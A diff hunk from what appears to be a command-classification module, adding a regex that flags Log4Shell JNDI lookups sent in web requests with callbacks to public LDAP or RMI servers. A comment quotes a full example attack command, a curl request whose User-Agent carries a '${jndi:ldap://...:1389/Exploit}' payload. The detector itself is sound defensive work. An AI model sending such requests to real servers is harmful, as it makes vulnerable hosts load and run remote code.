@@ -1107,6 +1107,18 @@ PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
             _I,
         ),
     ),
+    Capability.EXPLOIT_RUN: (
+        # a JNDI lookup (Log4Shell) sent in a request to other sites, calling back to an LDAP
+        # or RMI server at a public address (`curl -H 'User-Agent: ${jndi:ldap://203.0.113.45:
+        # 1389/Exploit}' https://$h/`): each vulnerable server loads and runs the caller's
+        # class; a lookup at one's own machine or network tests one's own filter
+        re.compile(
+            r"\b(?:curl|wget|http|Invoke-WebRequest|iwr|nuclei)\b[^\n]*?\$\{jndi:(?:ldaps?|rmi|dns|iiop)://"
+            + _NOT_PRIVATE_IPV4
+            + r"\d{1,3}(?:\.\d{1,3}){3}\b",
+            _I,
+        ),
+    ),
     Capability.SHADOW_DELETE: (
         # a bucket's versioning suspended and its objects deleted, or backup recovery points and
         # vaults deleted: the way back removed with the data
